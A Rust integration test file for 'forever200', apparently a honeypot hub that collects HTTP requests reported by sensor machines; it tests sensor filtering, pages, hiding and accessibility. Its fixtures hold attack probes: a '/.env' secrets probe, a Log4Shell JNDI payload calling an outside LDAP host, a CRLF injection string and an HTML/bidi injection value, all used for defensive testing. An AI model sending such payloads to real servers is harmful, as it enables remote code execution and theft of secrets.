//! A hub, with all programs as shipped: its pages, JSON and files with requests that other machines
//! sent.

use std::path::Path;

use anyhow::{Context, ensure};
use forever200_ring::{Alive, Counts, Record, Sent, Store};
use forever200_testkit::browser::EVERYONE;
use forever200_testkit::process::project;
use forever200_testkit::{Browser, Stack, get, get_json, until};
use jiff::{SignedDuration, Timestamp, Unit};
use serde_json::Value;
use tempfile::TempDir;

/// When the histories of all sensors in these tests began, in microseconds since 1970 and as RFC
/// 3339.
const ERA: u64 = 1_767_323_045_000_006;
const ERA_TEXT: &str = "2026-01-02T03:04:05.000006Z";
/// A version that a sensor in a stranger's hands may send.
const ODD_VERSION: &str = "<b>\u{202e}1.0";

/// The longest name that a sensor can have.
const LONG: &str = "a-name-of-forty-characters-in-a-rack-of-";
/// The requests: the sensor, the number there, and the target.
const SENT: [(&str, u64, &str); 6] = [
    ("berlin-1", 41, "GET /.env"),
    ("lima", 7, "GET /.env"),
    (LONG, 42, "GET /x?x=${jndi:ldap://192.0.2.66/a}"),
    ("", 0, "GET /here"),
    ("oslo", 1, "GET /.env"),
    ("oslo", 5, "GET /nothing-known"),
];

async fn start(folder: &Path, more: &[(&str, &str)]) -> anyhow::Result<Stack> {
    let folder = folder.to_str().context("an odd path")?;
    Stack::start_with(&[&[("FOREVER200_HISTORY", folder)], more].concat()).await
}

fn record(seq: u64, (sensor, number, line): (&str, u64, &str)) -> Record {
    let raw = format!("{line} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let sent = Sent {
        name: sensor.to_owned(),
        era: ERA,
        seq: number,
        missing: if sensor == "oslo" && number > 1 { 3 } else { 0 },
        stream: seq,
        version: if sensor == "lima" {
            ODD_VERSION
        } else {
            "0.1.0"
        }
        .to_owned(),
    };
    Record {
        timestamp: Timestamp::now(),
        sensor: Some(Box::new(sent)).filter(|_| !sensor.is_empty()),
        ..forever200_testkit::record(seq, raw)
    }
}

/// Writes the requests of sensors into the ring, as a hub does, and waits until the history has
/// them.
async fn send(stack: &Stack) -> anyhow::Result<()> {
    let store = Store::new(stack.at(11211).to_string());
    let last = store.advance(SENT.len() as u64).await?;
    ensure!(last == SENT.len() as u64, "{last}");
    let records: Vec<_> = (1..).zip(SENT).map(|(seq, it)| record(seq, it)).collect();
    store.write(&records, &Counts::default()).await?;
    until("the history has all of them", || async {
        let list = get_json(stack.front(), "/home/api/history").await.ok()?;
        (list["requests"].as_array()?.len() == SENT.len()).then_some(())
    })
    .await
}

async fn numbers(stack: &Stack, path: &str) -> anyhow::Result<Vec<u64>> {
    let list = get_json(stack.front(), path).await?;
    let requests = list["requests"].as_array().context("no list")?;
    Ok(requests
        .iter()
        .filter_map(|it| it["seq"].as_u64())
        .collect())
}

async fn page(stack: &Stack, path: &str) -> anyhow::Result<String> {
    let page = get(stack.front(), path).await?;
    ensure!(page.status == 200, "{path}: {}", page.text());
    Ok(page.text())
}

/// Checks an answer with this definition of a schema in docs/, or with the whole schema.
fn holds(file: &str, definition: &str, answer: &Value) -> anyhow::Result<()> {
    let read = |file: &str| std::fs::read_to_string(project().join("docs").join(file));
    let own = read(file)?.replace("api.schema.json#/$defs/", "#/$defs/api_");
    let mut schema: Value = serde_json::from_str(&own)?;
    let api = read("api.schema.json")?.replace("#/$defs/", "#/$defs/api_");
    let api: Value = serde_json::from_str(&api)?;
    for (name, definition) in api["$defs"].as_object().context("no definitions")? {
        schema["$defs"][format!("api_{name}")] = definition.clone();
    }
    if !definition.is_empty() {
        schema["$ref"] = format!("#/$defs/{definition}").into();
    }
    let validator = jsonschema::validator_for(&schema)?;
    let faults: Vec<_> = validator
        .iter_errors(answer)
        .map(|fault| format!("{}: {fault}", fault.instance_path()))
        .collect();
    ensure!(
        faults.is_empty(),
        "{file} {definition}: {faults:?} in {answer}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_has_the_name_of_its_sensor_everywhere() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    send(&stack).await?;
    for path in ["/home", "/home/history"] {
        let page = page(&stack, path).await?;
        for link in ["sensor=berlin-1\"", "sensor=lima\"", "name=\"sensor\""] {
            ensure!(page.contains(link), "{path}: {link} in {page}");
        }
    }
    let wall = page(&stack, "/home?view=wall").await?;
    for text in ["to <b>berlin-1</b>", "reaches these machines"] {
        ensure!(wall.contains(text), "{text} in {wall}");
    }
    let text = page(&stack, "/home/text").await?;
    ensure!(text.contains("203.0.113.7:41000 by berlin-1 "), "{text}");
    let one = page(&stack, "/home/requests/1").await?;
    for text in [
        "?sensor=berlin-1\">berlin-1</a>, request 41 there since",
        "2026-01-02 03:04:05 UTC",
        "href=\"/home/sensors\"",
    ] {
        ensure!(one.contains(text), "{text} in {one}");
    }
    let json = get_json(stack.front(), "/home/api/requests/1").await?;
    assert_eq!(json["sensor"], "berlin-1");
    assert_eq!(
        (&json["sensor_seq"], &json["sensor_era"]),
        (&41.into(), &ERA_TEXT.into())
    );
    let local = get_json(stack.front(), "/home/api/requests/4").await?;
    ensure!(
        local["sensor"].is_null() && local.get("sensor_seq").is_none(),
        "{local}"
    );
    let list = get_json(stack.front(), "/home/api/requests").await?;
    holds("api.schema.json", "", &list)?;
    for (path, name) in [
        ("/home/requests/1/raw", "forever200-berlin-1-1.bin"),
        ("/home/requests/1/pcap", "forever200-berlin-1-1.pcap"),
        ("/home/requests/1/html", "forever200-berlin-1-1.html"),
        ("/home/requests/4/raw", "forever200-4.bin"),
    ] {
        let file = get(stack.front(), path).await?;
        let wanted = format!("attachment; filename=\"{name}\"");
        assert_eq!(file.header("content-disposition"), Some(&*wanted), "{path}");
    }
    let har: Value = serde_json::from_str(&page(&stack, "/home/requests/1/har").await?)?;
    assert_eq!(har["log"]["entries"][0]["_sensor"], "berlin-1");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn lists_are_filtered_by_sensor_in_the_ring_and_in_the_history() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    send(&stack).await?;
    for path in ["/home/api/requests", "/home/api/history"] {
        for (query, wanted) in [
            ("sensor=berlin-1", &[1][..]),
            ("sensor=OSLO&path=/no", &[6]),
            ("sensor=oslo", &[6, 5]),
            ("-sensor=oslo", &[4, 3, 2, 1]),
            (
                "-sensor=oslo&-sensor=berlin-1&-sensor=lima&path=/here",
                &[4],
            ),
            ("sensor=oslo&sensor=lima", &[]),
            ("sensor=nobody", &[]),
        ] {
            let path = format!("{path}?{query}");
            assert_eq!(numbers(&stack, &path).await?, wanted, "{path}");
        }
        for bad in ["a%20b", "a%0d%0ab", "a.b", &"a".repeat(41)] {
            let answer = get(stack.front(), &format!("{path}?sensor={bad}")).await?;
            assert_eq!(answer.status, 400, "{bad}");
        }
    }
    let chip = page(&stack, "/home?sensor=lima").await?;
    ensure!(chip.contains("Without the condition sensor lima"), "{chip}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sensors_have_a_page_and_kinds_and_sources_say_who_saw_them() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    let home = page(&stack, "/home").await?;
    ensure!(
        !home.contains("/home/sensors") && !home.contains("name=\"sensor\""),
        "{home}"
    );
    let none = page(&stack, "/home/sensors").await?;
    ensure!(
        none.contains("No other machine sends anything here"),
        "{none}"
    );
    send(&stack).await?;
    let home = page(&stack, "/home").await?;
    ensure!(
        home.contains("<a href=\"/home/sensors\">Sensors</a>"),
        "{home}"
    );
    let list = get_json(stack.front(), "/home/api/sensors?sort=missing").await?;
    holds("sensors.schema.json", "", &list)?;
    let counts = ["total", "silent", "requests", "missing"].map(|it| list[it].as_u64());
    assert_eq!(counts, [Some(4), Some(0), Some(5), Some(3)]);
    assert_eq!(list["sensors"][0]["sensor"], "oslo");
    let heard: Timestamp = list["sensors"][0]["heard"]
        .as_str()
        .context("no time")?
        .parse()?;
    ensure!(
        Timestamp::now().duration_since(heard) < SignedDuration::from_hours(1),
        "{list}"
    );
    let metrics = page(&stack, "/home/metrics").await?;
    let counted = "\nforever200_history_sensors 4\n";
    ensure!(metrics.contains(counted), "{metrics}");
    let sensors = page(&stack, "/home/sensors?sort=name").await?;
    ensure!(sensors.contains("<b>4</b> machines send here"), "{sensors}");
    ensure!(sensors.contains("&lt;b&gt;\\u{202e}1.0"), "{sensors}");
    for (path, status) in [
        ("/home/sensors?sort=x", 400),
        ("/home/sensors?page=0", 400),
        ("/home/sensors?sensor=a", 400),
        ("/home/sensors?page=7", 200),
    ] {
        assert_eq!(get(stack.front(), path).await?.status, status, "{path}");
    }
    let kinds = get_json(stack.front(), "/home/api/collection").await?;
    holds("collection.schema.json", "collection", &kinds)?;
    let kinds = kinds["kinds"].as_array().context("no kinds")?;
    let seen = |kind: &str| {
        kinds
            .iter()
            .find(|it| it["kind"] == kind)
            .map(|it| &it["seen_by"])
    };
    assert_eq!(
        seen("dotenv-file"),
        Some(&serde_json::json!({ "sensors": 3, "of": 4 }))
    );
    assert_eq!(
        seen("log4shell"),
        Some(&serde_json::json!({ "sensors": 1, "of": 4 }))
    );
    let source = get_json(stack.front(), "/home/api/sources/203.0.113.7").await?;
    holds("sources.schema.json", "source", &source)?;
    assert_eq!(
        source["seen_by"],
        serde_json::json!({ "sensors": 4, "of": 4 })
    );
    for (path, told) in [
        ("/home/collection/dotenv-file", "3 of 4 sensors"),
        ("/home/sources/203.0.113.7", "4 of 4 sensors"),
    ] {
        let page = page(&stack, path).await?;
        ensure!(page.contains(told), "{path}: {page}");
    }
    for path in ["/home/collection", "/home/sources"] {
        let page = page(&stack, path).await?;
        ensure!(page.contains("Of 4 sensors"), "{path}: {page}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sensor_that_says_it_runs_is_not_silent() -> anyhow::Result<()> {
    let folder = tempfile::tempdir()?;
    let stack = start(folder.path(), &[]).await?;
    send(&stack).await?;
    let later = Timestamp::now().round(Unit::Second)? + SignedDuration::from_secs(5);
    let earlier = Timestamp::UNIX_EPOCH;
    let alive = [("lima", later), ("oslo", earlier), ("stranger", later)];
    let alive: Alive = alive.map(|(name, time)| (name.to_owned(), time)).into();
    let store = Store::new(stack.at(11211).to_string());
    store.write_alive(&alive).await?;
    let list = until("the page has heard of it", || async {
        let list = get_json(stack.front(), "/home/api/sensors?sort=name")
            .await
            .ok()?;
        (heard(&list, "lima")? == later).then_some(list)
    })
    .await?;
    assert_eq!(list["total"], 4, "one that sent nothing is none");
    ensure!(heard(&list, "oslo").context("no time")? > earlier, "{list}");
    Ok(())
}

/// Returns the time in a list when a sensor was last heard of.
fn heard(list: &Value, name: &str) -> Option<Timestamp> {
    let mut sensors = list["sensors"].as_array()?.iter();
    let sensor = sensors.find(|it| it["sensor"] == name)?;
    sensor["heard"].as_str()?.parse().ok()
}

/// A sensor that was cut off sends old requests later. The charts show them at their own time.
#[tokio::test(flavor = "multi_thread")]
async fn what_comes_late_is_counted_in_its_minute() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    send(&stack).await?;
    let store = Store::new(stack.at(11211).to_string());
    for (late, minutes_ago) in (1..).zip([20, 20, 45, 3, 200]) {
        let seq = store.advance(1).await?;
        let record = Record {
            timestamp: Timestamp::now() - SignedDuration::from_mins(minutes_ago),
            ..record(seq, ("berlin-1", 100 + late, "GET /late"))
        };
        let mut counts = Counts::default();
        counts.request(record.timestamp);
        store.write(&[record], &counts).await?;
        until(&format!("{late} late ones are counted"), || async {
            let stats = get_json(stack.front(), "/home/api/stats").await.ok()?;
            let bars = stats["quarters"].as_array()?.iter();
            let counted: u64 = bars.filter_map(Value::as_u64).sum();
            (counted == late).then_some(())
        })
        .await?;
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_hidden_stays_hidden_at_a_hub() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let hide = [
        ("FOREVER200_HIDE", "berlin"),
        ("FOREVER200_MASK_SOURCES", "on"),
    ];
    let stack = start(folder.path(), &hide).await?;
    send(&stack).await?;
    for path in [
        "/home",
        "/home/history",
        "/home/text",
        "/home/requests/1",
        "/home/sensors",
        "/home/api/requests",
        "/home/api/history",
        "/home/api/sensors",
        "/home/export.ndjson",
        "/home/export.html",
        "/home/export.har",
    ] {
        let page = page(&stack, path).await?;
        ensure!(
            !page.contains("berlin") && !page.contains("113.7"),
            "{path}: {page}"
        );
        ensure!(page.contains("hidden"), "{path}: {page}");
    }
    for path in ["/home/api/requests", "/home/api/history"] {
        let named = numbers(&stack, &format!("{path}?sensor=berlin-1")).await?;
        assert_eq!(named, [0; 0]);
        let hidden = numbers(&stack, &format!("{path}?sensor=hidden")).await?;
        assert_eq!(hidden, [1]);
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn the_pages_of_a_hub_suit_everyone() -> anyhow::Result<()> {
    let folder = TempDir::new()?;
    let stack = start(folder.path(), &[]).await?;
    send(&stack).await?;
    for visitor in EVERYONE {
        let browser = Browser::start(visitor).await?;
        for page in [
            "/home",
            "/home/history?sensor=berlin-1&-sensor=lima",
            "/home/requests/1",
            "/home/sensors",
            "/home/sensors?page=7",
            "/home/collection",
            "/home/collection/dotenv-file",
            "/home/sources",
            "/home/sources/203.0.113.7",
        ] {
            browser
                .open(&format!("http://{}{page}", stack.front()))
                .await?;
            let is_wide = "return document.documentElement.scrollWidth > innerWidth";
            assert_eq!(browser.run(is_wide).await?, false, "{page}, {visitor:?}");
            let found = browser.accessibility().await?;
            assert_eq!(found, Value::Array(vec![]), "{page}, {visitor:?}");
        }
        let shown = "const cells = [...document.querySelectorAll('td.sensor a')];
            return cells.filter((it) => it.checkVisibility()).map((it) => it.textContent)";
        browser
            .open(&format!("http://{}/home?-path=/.env", stack.front()))
            .await?;
        let names = serde_json::json!(["oslo", LONG]);
        assert_eq!(browser.run(shown).await?, names, "{visitor:?}");
        browser
            .open(&format!("http://{}/home?path=/here", stack.front()))
            .await?;
        let head = "return document.querySelector('th.sensor').checkVisibility()";
        assert_eq!(browser.run(head).await?, false, "{visitor:?}");
    }
    Ok(())
}
